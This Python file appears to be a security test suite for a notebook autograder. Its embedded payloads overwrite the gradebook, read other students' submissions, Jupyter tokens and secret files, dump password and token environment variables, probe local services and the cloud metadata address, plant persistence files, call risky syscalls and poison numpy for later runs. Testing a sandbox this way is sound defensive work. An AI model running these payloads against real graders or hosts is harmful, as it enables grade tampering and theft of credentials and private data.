"""E. The host and the neighbours: what a submission may touch beside itself."""

import os
import subprocess
import sys
import textwrap

from attacks.arena import HOST
from attacks.attack import Attack, Raid, any_of, power_above, shows, touched
from attacks.honest import HONEST

BOOK = """
import sqlite3
for name in ('@HOST@/gradebook.db', 'gradebook.db'):
    try:
        book = sqlite3.connect(name)
        book.execute("update grade set points = 100")
        book.commit()
    except sqlite3.Error:
        pass
try:
    with open('@HOST@/gradebook.db', 'ab') as file:
        file.write(b'x')
except OSError:
    pass
"""
READ = """
import glob
def risk_word(score, cut):
    found = ''
    for name in [FILES]:
        for path in glob.glob(name, recursive=True):
            try:
                with open(path) as file:
                    found += file.read()[:200]
            except (OSError, UnicodeDecodeError):
                pass
    raise RuntimeError(found)
"""
CALL = """
import ctypes, os, socket
heard = []
def risk_word(score, cut):
    for family, address in ((socket.AF_INET, ('127.0.0.1', @PORT@)), (socket.AF_INET6, ('::1', @PORT@)),
                            (socket.AF_UNIX, '@HOST@/grader.sock'), (socket.AF_INET, ('169.254.169.254', 80))):
        try:
            line = socket.socket(family, socket.SOCK_STREAM)
            line.settimeout(0.3)
            line.connect(address)
            heard.append(str(address))
        except OSError:
            pass
    libc = ctypes.CDLL(None, use_errno=True)
    for number in (41, 53, 425):
        if libc.syscall(number, 2, 1, 0) >= 0:
            heard.append(f'call {number}')
    raise RuntimeError(f'POWER={len(heard)} {heard}')
"""
STAYS = """
import os, site, sys
places = ['@SITE@', *site.getsitepackages(), site.getusersitepackages(), '@HOST@/home/.ipython/profile_default/startup']
power = 0
for place in [*places, '/room/../etc', '/usr/lib/python3', '/etc']:
    if not (place.startswith('@HOST@') or '@SIDE@' == 'ours'):
        continue
    name = os.path.join(place, 'medlabs_attack.pth')
    try:
        with open(name, 'w') as file:
            file.write('import os')
        os.remove(name)
        power += 1
    except OSError:
        pass
for module in (os, np):
    try:
        with open(module.__file__, 'ab') as file:
            power += '@SIDE@' == 'ours'
    except OSError:
        pass
def risk_word(score, cut):
    raise RuntimeError(f'POWER={power}')
"""
KERNEL = """
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
CALLS = {'unshare user': (272, 0x10000000), 'unshare net': (272, 0x50000000), 'bpf': (321, 0, 0, 0), 'io_uring': (425, 8, ROOM),
         'keyctl': (250, 0, -3, 0), 'userfaultfd': (323, 1), 'perf': (298, ROOM, 0, -1, -1, 0), 'ptrace': (101, 0, 0, 0, 0),
         'setns': (308, 0, 0), 'mount': (165, b'x', b'/room', b'tmpfs', 0, 0), 'memfd': (319, b'x', 0), 'chroot': (161, b'/room'),
         'clone3': (435, ROOM, 88), 'personality': (135, 0x0040000), 'shmget': (29, 0, 4096, 0o1600), 'pidfd': (434, 1, 0),
         'add_key': (248, b'user', b'x', b'y', 1, -3), 'setuid': (105, 0), 'kill all': (62, -1, 0)}
DEADLY = ('kill all',)
def risk_word(score, cut):
    got = []
    for name, (number, *rest) in CALLS.items():
        if name in DEADLY and '@SIDE@' != 'ours':
            continue
        ctypes.set_errno(0)
        value = libc.syscall(ctypes.c_long(number), *rest)
        if value >= 0 and name != 'kill all':
            got.append(name)
        elif ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS, errno.EACCES, errno.ESRCH):
            got.append(f'{name}: {errno.errorcode[ctypes.get_errno()]}')
    raise RuntimeError(f'POWER={len(got)} {got}')
""".replace("ROOM", "ctypes.create_string_buffer(256)")
TERMINAL = """
import fcntl, glob, os, termios
power = 0
for name in ['/dev/tty', '/dev/console', *glob.glob('/dev/pts/*'), *[f'/proc/self/fd/{n}' for n in range(3)]]:
    try:
        fd = os.open(name, os.O_RDWR | os.O_NOCTTY)
        power += os.isatty(fd)
        os.close(fd)
    except OSError:
        pass
def risk_word(score, cut):
    raise RuntimeError(f'POWER={power}')
"""
SURROUNDINGS = """
import os
def risk_word(score, cut):
    raise RuntimeError(repr({k: v for k, v in os.environ.items() if 'PASS' in k or 'TOKEN' in k or 'KEY' in k or v.startswith('/')}))
"""
PLANT = """
import builtins, json, sys, types
import numpy, pandas
for module in (numpy, pandas, json, sys):
    module.planted = 'OSPREY' + '-1008'
sys.modules['planted'] = types.ModuleType('planted')
numpy.random.seed(0)
numpy.allclose = numpy.nanmean = numpy.mean = lambda *a, **k: 0.25
builtins.len = lambda thing: 1
"""
PLANTED = """
import builtins, json, sys
import numpy, pandas
def risk_word(score, cut):
    found = [module.planted for module in (numpy, pandas, json, sys) if hasattr(module, 'planted')]
    raise RuntimeError(repr(found + ['planted'] * ('planted' in sys.modules)))
"""


def files(*patterns):
    return READ.replace("[FILES]", repr(list(patterns)))


def next_hurt(seen):
    """Ask whether an honest submission after it has another grade."""
    record = seen.records[-1]
    return "" if record["score"] == 8 else f"the next submission has {record['score']} points instead of 8"


WITHOUT = """
import ctypes, json, os, sys
from pathlib import Path
libc = ctypes.CDLL(None, use_errno=True)
if os.geteuid() == 0:  # root without the right to make namespaces, as in a plain container
    for number in (21, 18):
        libc.prctl(24, number, 0, 0, 0)
    header = (ctypes.c_uint32 * 2)(0x20080522, 0)
    data = (ctypes.c_uint32 * 6)()
    libc.syscall(125, header, data)
    for part in (0, 1):
        data[part] &= ~(1 << 21 | 1 << 18)
    libc.syscall(126, header, data)
else:  # a user where user namespaces are switched off
    uid, gid = os.getuid(), os.getgid()
    libc.unshare(0x10000000)
    Path('/proc/self/setgroups').write_text('deny')
    Path('/proc/self/uid_map').write_text(f'{uid} {uid} 1')
    Path('/proc/self/gid_map').write_text(f'{gid} {gid} 1')
    Path('/proc/sys/user/max_user_namespaces').write_text('0')
from autograder import build
from autograder.grading.watch import Limits
from autograder.judge.pool import Pool
from autograder.judge.warm import Refused
try:
    with Pool(build.read_week(sys.argv[1]), Limits()) as pool:
        record = pool.grade(sys.argv[2])
        print('graded', record['state'], record['score'], record['message'])
except Refused as error:
    print('refused', error)
"""


def without_sandbox(arena, side, folder):
    """87: where no sandbox can be made, nothing is graded, and it is said."""
    if side == "baseline":
        return "it grades without any sandbox"
    path = folder / "assignment.ipynb"
    path.write_bytes((arena.folder / "honest.ipynb").read_bytes())
    line = [sys.executable, "-c", textwrap.dedent(WITHOUT), str(arena.week.folder), str(path)]
    said = subprocess.run(line, capture_output=True, text=True, timeout=60, env=dict(os.environ)).stdout
    return "" if said.startswith("refused") else f"without a sandbox it said: {said!r}"


CASES = [
    Attack("77", "the gradebook is written", touched, {"patient_key": BOOK}),
    Attack("78", "other submissions are read", shows(HOST["other"]), {"risk_word": files("@HOST@/submitted/**/*.ipynb")}),
    Attack("79", "Jupyter's files with tokens", shows(HOST["token"]), {"risk_word": files("@HOST@/runtime/*.json")}),
    Attack("80", "services of this machine", any_of(touched, power_above(0)), {"risk_word": CALL}),
    Attack("81", "files for the next run", any_of(touched, power_above(0)), {"risk_word": STAYS}),
    Attack("82", "files that only the owner may read", shows(HOST["secret"]),
           {"risk_word": files("@HOST@/secret.txt", "/proc/1/root@HOST@/secret.txt", "/old@HOST@/secret.txt")}),
    Attack("83", "the kernel's surface", power_above(0), {"risk_word": KERNEL}),
    Attack("84", "a terminal to type into", power_above(0), {"risk_word": TERMINAL}),
    Attack("85", "passwords in the environment", shows(HOST["environment"]), {"risk_word": SURROUNDINGS}),
    Attack("86", "the next fork of the same parent", next_hurt, {"patient_key": PLANT}, then=(HONEST,)),
    Attack("86-seen", "a mark for the next fork", shows(HOST["drop"], "'planted'"), {"patient_key": PLANT},
           then=({"risk_word": PLANTED},)),
    Raid("87", "a machine without a sandbox", without_sandbox, limit=60),
]  # fmt: skip
